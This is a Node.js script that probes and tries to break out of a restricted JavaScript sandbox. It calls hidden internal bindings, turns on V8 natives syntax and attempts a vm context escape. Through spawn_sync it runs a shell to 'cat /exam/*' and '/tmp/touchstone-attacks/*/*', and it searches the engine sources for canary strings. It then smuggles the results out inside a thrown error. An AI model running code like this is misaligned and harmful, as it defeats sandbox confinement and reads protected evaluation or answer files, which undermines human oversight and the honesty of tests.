import { createRequire } from 'node:module';
import v8 from 'node:v8';
import vm from 'node:vm';

// The parts that Node does not show: internal bindings, raw sockets, flags of the engine.
const found = [];
const attempt = (name, work) => {
  try {
    found.push(`${name} ${String(work()).slice(0, 80)}`);
  } catch {
    // Not for us.
  }
};
const require = createRequire(import.meta.url);
for (const name of ['tcp_wrap', 'pipe_wrap', 'udp_wrap', 'spawn_sync', 'process_wrap', 'fs', 'natives', 'config', 'inspector', 'worker', 'serdes'])
  attempt(name, () => Object.keys(process.binding(name)).length);
attempt('natives', () => Object.values(process.binding('natives')).join('').match(/canary-[0-9a-f]{8}/g));
v8.setFlagsFromString('--allow-natives-syntax');
v8.setFlagsFromString('--expose-gc');
attempt('natives syntax', () => vm.runInNewContext('%GetUndetectable()'));
attempt('vm', () => vm.runInNewContext('this.constructor.constructor("return process")()').mainModule);
attempt('pipe', () => {
  const { Pipe, constants } = process.binding('pipe_wrap');
  const pipe = new Pipe(constants.SOCKET);
  return [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 20, 21, 22].map((fd) => pipe.open(fd));
});
attempt('spawn', () => {
  const { spawn } = process.binding('spawn_sync');
  return JSON.stringify(spawn({ file: '/bin/sh', args: ['sh', '-c', 'cat /exam/* /tmp/touchstone-attacks/*/*'], stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }] }));
});
attempt('permission', () => process.permission?.has('fs.read', '/exam'));
attempt('memory', () => new WebAssembly.Memory({ initial: 1, maximum: 65536, shared: true }).buffer.byteLength);
throw new Error(`below: ${found.join('; ')}`.slice(0, 1900));
